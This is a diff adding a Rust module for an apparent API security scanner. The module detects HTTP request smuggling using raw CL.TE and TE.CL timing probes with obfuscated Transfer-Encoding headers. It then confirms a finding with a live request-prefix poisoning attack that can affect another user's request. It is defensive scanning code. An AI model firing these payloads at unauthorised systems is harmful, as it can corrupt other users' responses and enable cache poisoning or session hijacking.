@@ -0,0 +1,271 @@
+//! HTTP request smuggling detection (`--smuggling`)
+//! Requests with both `Content-Length` and `Transfer-Encoding` are written over raw sockets, since HTTP
+//! clients refuse to send them. A front end and a back end that pick different headers disagree on where
+//! the body ends, and the back end is left waiting for bytes that never come:
+//! - CL.TE: the front end forwards `Content-Length` bytes that end inside a chunk
+//! - TE.CL: the front end stops at the terminating chunk, short of `Content-Length`
+//!
+//! A server that parses both the same way answers (or rejects) at once. CL.TE is probed first: against a
+//! CL.TE chain the TE.CL probe would leave bytes on the back-end connection. Timeouts are repeated, then
+//! confirmed by smuggling a request prefix for a non-existent path and checking whether the next normal
+//! request gets its 404. That one request may hit another user of the site, so the phase is opt-in.
+//! Sockets don't go through the proxy; the phase is skipped when the scan is proxied.
+
+use crate::output::writer_jsonl::RawEvent;
+use serde::Serialize;
+use std::time::{Duration, Instant};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+/// Path of the smuggled request prefix
+pub const POISON_PATH: &str = "/apihunter-smuggle-404";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+pub enum Desync {
+    /// Front end uses Content-Length, back end Transfer-Encoding
+    #[serde(rename = "CL.TE")]
+    ClTe,
+    /// Front end uses Transfer-Encoding, back end Content-Length
+    #[serde(rename = "TE.CL")]
+    TeCl,
+}
+
+impl Desync {
+    pub fn label(&self) -> &'static str {
+        match self {
+            Desync::ClTe => "CL.TE",
+            Desync::TeCl => "TE.CL",
+        }
+    }
+}
+
+/// Ways of writing the Transfer-Encoding header: one side may ignore an obfuscated one (TE.TE)
+pub const TE_HEADERS: &[(&str, &str)] = &[
+    ("plain", "Transfer-Encoding: chunked"),
+    ("space before colon", "Transfer-Encoding : chunked"),
+    ("tab separator", "Transfer-Encoding:\tchunked"),
+    ("duplicate header", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
+];
+
+#[derive(Debug, Clone, Serialize)]
+pub struct SmugglingFinding {
+    pub url: String,
+    pub desync: Desync,
+    /// Name of the Transfer-Encoding variant
+    pub variant: String,
+    pub te_header: String,
+    /// "critical" when the 404 poisoning worked, "high" on repeated timeouts only
+    pub severity: String,
+    pub confirmed: bool,
+    pub baseline_ms: u64,
+    /// The timing probe, as sent
+    pub request: String,
+    pub evidence: String,
+}
+
+/// Where to send the probes
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Target {
+    pub url: String,
+    pub https: bool,
+    pub host: String,
+    pub port: u16,
+    /// Path and query
+    pub path: String,
+}
+
+impl Target {
+    pub fn parse(url: &str) -> Option<Self> {
+        let u = url::Url::parse(url).ok()?;
+        let https = match u.scheme() {
+            "https" => true,
+            "http" => false,
+            _ => return None,
+        };
+        let path = match u.query() {
+            Some(q) => format!("{}?{}", u.path(), q),
+            None => u.path().to_string(),
+        };
+        Some(Self { url: url.to_string(), https, host: u.host_str()?.to_string(), port: u.port_or_known_default()?, path })
+    }
+
+    fn host_header(&self) -> String {
+        if self.port == if self.https { 443 } else { 80 } {
+            self.host.clone()
+        } else {
+            format!("{}:{}", self.host, self.port)
+        }
+    }
+
+    /// Request line and headers up to the framing headers each probe adds. Identification, `-H` and
+    /// credential headers are included (and recorded for the audit); the smuggled prefixes don't get them,
+    /// as they end up in front of someone else's request.
+    fn head(&self, method: &str, path: &str) -> String {
+        let mut head = format!(
+            "{} {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\n",
+            method, path, self.host_header(), crate::tls_profile::user_agent_or("Mozilla/5.0 (compatible; api-hunter)")
+        );
+        let own = ["host", "user-agent", "accept", "content-type", "content-length", "transfer-encoding", "connection"];
+        for (name, value) in crate::identify::record("probe::smuggling").iter().filter(|(n, _)| !own.contains(&n.as_str())) {
+            head.push_str(&format!("{}: {}\r\n", name, value.to_str().unwrap_or_default()));
+        }
+        head.push_str("Connection: close\r\n");
+        head
+    }
+
+    /// Plain GET, for the baseline and the poisoning check
+    pub fn normal(&self) -> String {
+        format!("{}\r\n", self.head("GET", &self.path))
+    }
+
+    /// Timing probe: the back end waits if the two sides disagree in the way of `desync`
+    pub fn timing_probe(&self, desync: Desync, te_header: &str) -> String {
+        let head = self.head("POST", &self.path);
+        match desync {
+            // Content-Length ends after "A"; a chunked parser wants the rest of the chunk
+            Desync::ClTe => format!("{}{}\r\nContent-Length: 4\r\n\r\n1\r\nA\r\nX", head, te_header),
+            // The terminating chunk ends the body for TE; CL wants one more byte
+            Desync::TeCl => format!("{}{}\r\nContent-Length: 6\r\n\r\n0\r\n\r\nX", head, te_header),
+        }
+    }
+
+    /// Attack leaving `GET POISON_PATH` at the start of the back end's next request
+    pub fn poison_probe(&self, desync: Desync, te_header: &str) -> String {
+        let head = self.head("POST", &self.path);
+        match desync {
+            Desync::ClTe => {
+                let body = format!("0\r\n\r\nGET {} HTTP/1.1\r\nX-Ignore: X", POISON_PATH);
+                format!("{}{}\r\nContent-Length: {}\r\n\r\n{}", head, te_header, body.len(), body)
+            }
+            Desync::TeCl => {
+                // Content-Length of the back end covers the chunk size line only; the smuggled request's
+                // own Content-Length swallows the terminating chunk and the start of the next request
+                let smuggled = format!("GET {} HTTP/1.1\r\nHost: {}\r\nContent-Length: 15\r\n\r\nx=1", POISON_PATH, self.host_header());
+                let size = format!("{:x}\r\n", smuggled.len());
+                format!("{}{}\r\nContent-Length: {}\r\n\r\n{}{}\r\n0\r\n\r\n", head, te_header, size.len(), size, smuggled)
+            }
+        }
+    }
+}
+
+/// Status code at the start of a response
+pub fn parse_status(head: &[u8]) -> Option<u16> {
+    let text = std::str::from_utf8(head.get(..head.len().min(32))?).ok()?;
+    let mut parts = text.split_whitespace();
+    if !parts.next()?.starts_with("HTTP/") {
+        return None;
+    }
+    parts.next()?.parse().ok()
+}
+
+/// Result of one raw exchange
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Outcome {
+    Status(u16, Duration),
+    /// Connected and sent, but no answer within the timeout
+    TimedOut,
+    /// Closed without a status line, or connection failed
+    Failed,
+}
+
+pub struct SmugglingProber {
+    timeout: Duration,
+}
+
+impl SmugglingProber {
+    /// `timeout` is how long a probe may take before counting as a desync; the baseline has to stay
+    /// well below it
+    pub fn new(timeout: Duration) -> Self {
+        Self { timeout }
+    }
+
+    /// Send `request` on a new connection and wait for the status line
+    pub async fn exchange(&self, target: &Target, request: &str) -> Outcome {
+        crate::http_client::pace().await;
+        let Some(mut stream) = crate::net::connect_raw(&target.host, target.port, target.https, self.timeout).await else { return Outcome::Failed };
+        let start = Instant::now();
+        if stream.write_all(request.as_bytes()).await.is_err() || stream.flush().await.is_err() {
+            return Outcome::Failed;
+        }
+        let mut buf = [0u8; 64];
+        let mut read = 0;
+        let answer = tokio::time::timeout(self.timeout, async {
+            while read < 12 {
+                match stream.read(&mut buf[read..]).await {
+                    Ok(0) | Err(_) => break,
+                    Ok(n) => read += n,
+                }
+            }
+        })
+        .await;
+        if answer.is_err() {
+            return Outcome::TimedOut;
+        }
+        match parse_status(&buf[..read]) {
+            Some(status) => Outcome::Status(status, start.elapsed()),
+            None => Outcome::Failed,
+        }
+    }
+
+    /// Probe one endpoint; at most one finding (the first variant that desyncs)
+    pub async fn test(&self, target: &Target) -> Option<SmugglingFinding> {
+        // Baseline: normal requests must answer well within the timeout
+        let mut baseline = Vec::new();
+        for _ in 0..3 {
+            match self.exchange(target, &target.normal()).await {
+                Outcome::Status(status, elapsed) => baseline.push((status, elapsed)),
+                _ => return None,
+            }
+        }
+        let slowest = baseline.iter().map(|(_, e)| *e).max()?;
+        if slowest * 2 > self.timeout {
+            tracing::debug!("smuggling: {} too slow for timing probes ({:?})", target.url, slowest);
+            return None;
+        }
+        let baseline_status = baseline[0].0;
+
+        for desync in [Desync::ClTe, Desync::TeCl] {
+            for (variant, te_header) in TE_HEADERS {
+                let probe = target.timing_probe(desync, te_header);
+                if self.exchange(target, &probe).await != Outcome::TimedOut {
+                    continue;
+                }
+                // Once more, and a normal request in between must still be fast
+                if !matches!(self.exchange(target, &target.normal()).await, Outcome::Status(..)) || self.exchange(target, &probe).await != Outcome::TimedOut {
+                    continue;
+                }
+                let mut confirmed = false;
+                let mut evidence = format!("{} probe timed out twice after {:?}; normal requests answer in {} ms", variant, self.timeout, slowest.as_millis());
+                if baseline_status != 404 && !matches!(self.exchange(target, &target.poison_probe(desync, te_header)).await, Outcome::Failed) {
+                    if let Outcome::Status(404, _) = self.exchange(target, &target.normal()).await {
+                        confirmed = true;
+                        evidence.push_str(&format!("; the request after the attack got a 404 for {} (normally {})", POISON_PATH, baseline_status));
+                    }
+                }
+                return Some(SmugglingFinding {
+                    url: target.url.clone(),
+                    desync,
+                    variant: variant.to_string(),
+                    te_header: te_header.to_string(),
+                    severity: if confirmed { "critical" } else { "high" }.to_string(),
+                    confirmed,
+                    baseline_ms: slowest.as_millis() as u64,
+                    request: probe,
+                    evidence,
+                });
+            }
+        }
+        None
+    }
+}
+
+/// One target per origin (the first successful endpoint), at most `limit`
+pub fn targets(results: &[RawEvent], limit: usize) -> Vec<Target> {
+    let mut seen = std::collections::HashSet::new();
+    results
+        .iter()
+        .filter(|e| (200..500).contains(&e.status))
+        .filter_map(|e| Target::parse(&e.final_url))
+        .filter(|t| seen.insert((t.https, t.host.clone(), t.port)))
+        .take(limit)
+        .collect()
+}